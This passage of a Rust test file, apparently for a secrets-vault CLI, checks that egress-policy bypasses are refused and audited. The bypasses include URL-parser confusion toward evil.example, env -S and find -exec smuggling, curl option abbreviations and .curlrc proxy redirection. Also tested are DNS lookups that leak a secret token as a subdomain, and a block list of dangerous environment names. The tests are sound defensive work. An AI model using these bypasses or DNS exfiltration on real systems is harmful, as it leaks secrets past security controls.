/// `urlsplit` delete tab, CR and LF anywhere, and read past `;` `'` `(` `)` `` ` `` and
/// spaces to the last `@`; WHATWG also finds a host after a special scheme with no `//`
/// (`https:;@evil.example`). Each URL below goes to `evil.example` (a subdomain of it, or
/// 127.0.0.1) while the scan judged the allowed `example.org`, or found no destination.
#[test]
fn generic_scan_never_ends_a_url_before_its_authority_does() {
    let server = Server::start();
    let v = vault_with(&["--allow", "example.org"]);
    for url in [
        "https://example.org\n.evil.example/",
        "https://example.org\t.evil.example/",
        "https://example.org\r.evil.example/",
        "https://exam\nple.org@evil.example/",
        "https://example.org;;@evil.example/",
        "https://example.org'(@evil.example/",
        "https://example.org) @evil.example/",
        "https://u@example.org;`@evil.example/",
        "https:;@evil.example/",
        "https:`x@2130706433/",
    ] {
        let marker = v.path("started");
        let code = format!("open({:?}, 'w')", marker.display().to_string());
        refused_run(&v, &server, &marker, &["python3", "-c", &code, url]);
    }
}

// ---------------------------------------------------------------------------------------
// Issue 15: argv bypasses, each through the built binary with real clients or shims

/// `vault run` headless with `dir` first on PATH (shims for tools that may be missing).
fn run_with_path(v: &Vault, dir: &Path, argv: &[&str]) -> Command {
    let mut std = v.std_cmd();
    let path = std::env::var_os("PATH").unwrap_or_default();
    let mut full = dir.as_os_str().to_owned();
    full.push(":");
    full.push(path);
    std.env("PATH", full);
    std.arg("run").arg("--").args(argv);
    without_terminal(&mut std);
    wrap(std)
}

/// A directory of shims: each named program touches `marker` and exits 0.
fn shims(v: &Vault, names: &[&str], marker: &Path) -> std::path::PathBuf {
    use std::os::unix::fs::PermissionsExt as _;
    let dir = v.path("shims");
    fs::create_dir_all(&dir).expect("shim dir");
    for name in names {
        let p = dir.join(name);
        fs::write(&p, format!("#!/bin/sh\ntouch '{}'\n", marker.display())).expect("shim");
        fs::set_permissions(&p, fs::Permissions::from_mode(0o755)).expect("chmod shim");
    }
    dir
}

/// The last audit entry, parsed.
fn last_audit(v: &Vault) -> serde_json::Value {
    let log = fs::read_to_string(v.home.join("audit.jsonl")).expect("audit.jsonl");
    let line = log.lines().last().expect("an audit entry");
    serde_json::from_str(line).expect("audit JSON")
}

fn require_tool(tool: &str) -> bool {
    let found = StdCommand::new("sh")
        .args(["-c", &format!("command -v {tool}")])
        .output()
        .is_ok_and(|o| o.status.success());
    assert!(
        found || std::env::var_os("CI").is_none_or(|v| v != "true"),
        "{tool} is required in CI"
    );
    if !found {
        eprintln!("skipping: {tool} is not installed");
    }
    found
}

/// `env -S` with GNU's `\_` escape hid curl's URL: the run was allowed with "no
/// destination in argv" and curl reached the server. Now the string is split as env
/// splits it, the URL is found and judged: refused (77), audited, nothing connects.
#[test]
fn env_split_string_escapes_are_followed() {
    if !require_tool("curl") {
        return;
    }
    let server = Server::start();
    let v = vault_with(&["--allow", "api.example.com"]);
    for split in [
        format!("curl\\_-sS\\_http://127.0.0.1:{}/", server.port()),
        format!("curl\\t-sS\\thttp://127.0.0.1:{}/", server.port()),
        format!("curl \"http://127.0.0.1:{}/\"", server.port()),
    ] {
        let marker = v.path("never");
        let err = refused_run(&v, &server, &marker, &["env", "-S", &split]);
        assert!(err.contains("127.0.0.1"), "{split}: {err}");
        let entry = last_audit(&v);
        assert_eq!(entry["action"], "deny", "{entry}");
        assert!(entry["decision"]["deny"].is_array(), "{entry}");
    }
    // An escape GNU env refuses is refused as unknown, not guessed.
    let err = refused_run(&v, &server, &v.path("never"), &["env", "-S", "curl\\qx"]);
    assert!(err.contains("env -S"), "{err}");
    assert_eq!(last_audit(&v)["action"], "deny");
}

/// `find -exec`/`-execdir`/`-ok` run their command: a schemeless `localhost:PORT` that
/// the generic scan does not take for a host is now curl's destination and judged.
#[test]
fn find_exec_is_recursed_into() {
    if !require_tool("curl") || !require_tool("find") {
        return;
    }
    let server = Server::start();
    let v = vault_with(&["--allow", "api.example.com"]);
    let target = format!("localhost:{}", server.port());
    for action in ["-exec", "-execdir"] {
        let err = refused_run(
            &v,
            &server,
            &v.path("never"),
            &[
                "find",
                ".",
                "-maxdepth",
                "0",
                action,
                "curl",
                "-s",
                &target,
                ";",
            ],
        );
        assert!(err.contains("localhost"), "{action}: {err}");
        assert_eq!(last_audit(&v)["action"], "deny");
    }
}

/// DNS tools send the name they look up: a name built from a placeholder or a variable
/// is refused before the tool starts (shims stand in for dig/nslookup/host/ping).
#[test]
fn dns_tools_names_are_destinations() {
    let server = Server::start();
    let v = vault_with(&["--allow", "*"]);
    let marker = v.path("dns-ran");
    let dir = shims(&v, &["dig", "nslookup", "host", "ping"], &marker);
    let cases: Vec<Vec<&str>> = vec![
        vec!["dig", "{{secure.TOKEN}}.evil.example"],
        vec!["nslookup", "{{secure.TOKEN}}.evil.example"],
        vec!["host", "{{secure.TOKEN}}.evil.example"],
        vec!["ping", "-c", "1", "{{secure.TOKEN}}.evil.example"],
        vec!["sh", "-c", "nslookup \"$TOKEN.evil.example\""],
        vec!["sh", "-c", "dig +short \"${TOKEN}.evil.example\""],
    ];
    for argv in &cases {
        let connections = server.connections();
        let err = v.refuses(&mut run_with_path(&v, &dir, argv), DENIED);
        assert!(err.contains("cannot be checked"), "{argv:?}: {err}");
        assert!(!marker.exists(), "{argv:?}: the DNS tool ran");
        assert_eq!(server.connections(), connections);
        assert_no_leak(err.as_bytes(), VALUE.as_bytes());
        let entry = last_audit(&v);
        assert_eq!(entry["action"], "deny", "{entry}");
        assert!(entry["decision"]["refused"].is_string(), "{entry}");
        assert_no_leak(entry.to_string().as_bytes(), VALUE.as_bytes());
    }
    // The value itself typed as a label is refused too, and never echoed or audited.
    let literal = format!("{VALUE}.evil.example");
    let err = v.refuses(&mut run_with_path(&v, &dir, &["dig", &literal]), DENIED);
    assert!(!marker.exists(), "dig ran with the value as a label");
    assert_no_leak(err.as_bytes(), VALUE.as_bytes());
    assert_no_leak(
        &fs::read(v.home.join("audit.jsonl")).expect("audit"),
        VALUE.as_bytes(),
    );
    // A plain name is a destination the policy judges: allowed here, so the tool runs.
    v.ok(&mut run_with_path(&v, &dir, &["dig", "example.com"]));
    assert!(marker.exists(), "an allowed dig did not run");
}

/// `env HOME=DIR curl …`: a `.curlrc` in DIR sends the request through a proxy the
/// policy does not allow. Any inline assignment of a variable clients read as
/// configuration is refused, through env, sh -c and wrappers.
#[test]
fn inline_configuration_variables_are_refused() {
    if !require_tool("curl") {
        return;
    }
    let allowed = Server::start();
    let proxy = Server::start();
    let v = vault_with(&["--allow", &format!("127.0.0.1:{}", allowed.port())]);
    let home = v.path("evil-home");
    fs::create_dir_all(home.join(".config")).expect("evil home");
    let curlrc = format!("proxy = \"http://127.0.0.1:{}\"\n", proxy.port());
    fs::write(home.join(".curlrc"), &curlrc).expect(".curlrc");
    fs::write(home.join(".config/.curlrc"), &curlrc).expect("xdg .curlrc");
    let url = format!("http://127.0.0.1:{}/", allowed.port());
    let set_home = format!("HOME={}", home.display());
    let set_xdg = format!("XDG_CONFIG_HOME={}", home.join(".config").display());
    let script = format!("{set_home} curl -s {url}");
    let exported = format!("export {set_home}; curl -s {url}");
    let cases: Vec<Vec<&str>> = vec![
        vec!["env", &set_home, "curl", "-s", &url],
        vec!["env", &set_xdg, "curl", "-s", &url],
        vec![&set_home, "curl", "-s", &url],
        vec!["nice", "env", &set_home, "curl", "-s", &url],
        vec!["sh", "-c", &script],
        vec!["sh", "-c", &exported],
    ];
    for argv in &cases {
        let err = refused_run(&v, &proxy, &v.path("never"), argv);
        assert!(err.contains("set inline"), "{argv:?}: {err}");
        assert_eq!(last_audit(&v)["action"], "deny");
    }
    assert_eq!(allowed.connections(), 0);
    // Without the assignment, the same run is allowed and reaches the allowed server only.
    let mut std = v.std_cmd();
    std.env("HOME", v.path("plain-home"))
        .args(["run", "--", "curl", "-s", &url]);
    without_terminal(&mut std);
    v.ok(&mut wrap(std));
    assert_eq!(allowed.connections(), 1);
    assert_eq!(proxy.connections(), 0);
}

/// curl up to 8.5 takes any unique prefix of a long option, in any case: `--conf FILE`
/// is `--config FILE` (a file that can set a proxy), `--location-t` is
/// `--location-trusted`. Each is refused as the option it abbreviates.
#[test]
fn curl_abbreviated_options_are_the_options_they_abbreviate() {
    if !require_tool("curl") {
        return;
    }
    let allowed = Server::start();
    let proxy = Server::start();
    let v = vault_with(&["--allow", &format!("127.0.0.1:{}", allowed.port())]);
    let config = v.path("curl.cfg");
    fs::write(
        &config,
        format!("proxy = \"http://127.0.0.1:{}\"\n", proxy.port()),
    )
    .expect("cfg");
    let config = config.display().to_string();
    let url = format!("http://127.0.0.1:{}/", allowed.port());
    let cases: Vec<Vec<&str>> = vec![
        vec!["curl", "-q", "-s", "--conf", &config, &url],
        vec!["curl", "-q", "-s", "--CONFIG", &config, &url],
        vec!["curl", "-q", "-s", "--location-t", &url],
        vec!["curl", "-q", "-s", "--LOCATION-TRUSTED", &url],
    ];
    for argv in &cases {
        let err = refused_run(&v, &proxy, &v.path("never"), argv);
        assert!(err.contains("cannot be checked"), "{argv:?}: {err}");
        assert_eq!(last_audit(&v)["action"], "deny");
    }
    assert_eq!(allowed.connections(), 0);
}

/// Every reserved name added by rule is refused at `set` (65, store unchanged), and a
/// store that already holds one (an older vault, a hand edit) refuses to inject it at
/// `vault run` with one line, while `list` still shows it.
#[test]
fn reserved_names_are_refused_at_set_and_at_injection() {
    let v = vault_with(&[]);
    for name in [
        "KUBECONFIG",
        "https_proxy",
        "XDG_CONFIG_HOME",
        "PS0",
        "SSLKEYLOGFILE",
        "GIT_TRACE_CURL",
        "HOME",
        "NODE_TLS_REJECT_UNAUTHORIZED",
        "DOCKER_HOST",
        "GIT_EDITOR",
        "NO_PROXY",
        "GIT_EXTERNAL_DIFF",
        "PYTHONSTARTUP",
        "GIT_SSL_NO_VERIFY",
        "PS3",
        "GIT_TEMPLATE_DIR",
        "GIT_ASKPASS",
    ] {
        let err = v.refuses(
            v.cmd()
                .args(["set", name])
                .write_stdin("valid-value-0123456789\n"),
            DATA_ERR,
        );
        assert!(err.contains("refusing secret name"), "{name}: {err}");
    }
    // A store written by an older vault: rename TOKEN to KUBECONFIG by hand.
    let mut contents = v.decrypt_store();
    let secrets = contents["secrets"].as_object_mut().expect("secrets map");
    let entry = secrets.remove("TOKEN").expect("TOKEN");
    secrets.insert("KUBECONFIG".to_string(), entry);
    let recipient: age::x25519::Recipient = v.fixture.recipient.parse().expect("recipient");
    let encryptor =
        age::Encryptor::with_recipients(std::iter::once(&recipient as &dyn age::Recipient))
            .expect("encryptor");
    let mut sealed = Vec::new();
    let mut w = encryptor.wrap_output(&mut sealed).expect("wrap");
    w.write_all(contents.to_string().as_bytes()).expect("write");
    w.finish().expect("finish");
    fs::write(v.store(), &sealed).expect("write the hand-made store");
    assert_eq!(v.list_names(), vec!["KUBECONFIG".to_string()]);
    let marker = v.path("ran");
    for argv in [
        vec!["sh", "-c", &marked(&marker, "true")],
        vec!["sh", "-c", &marked(&marker, "echo {{secure.KUBECONFIG}}")],
    ] {
        let err = v.refuses(&mut run(&v, &argv), DATA_ERR);
        assert!(err.contains("KUBECONFIG"), "{err}");
        assert!(
            !marker.exists(),
            "the child started with a reserved name injected"
        );
        assert_no_leak(err.as_bytes(), VALUE.as_bytes());
    }
    // It can still be removed, after which runs work again.
    v.ok(v.cmd().args(["rm", "KUBECONFIG"]));
    assert!(v.list_names().is_empty());
    v.ok(&mut run(&v, &["sh", "-c", &marked(&marker, "true")]));
    assert!(marker.exists());
}
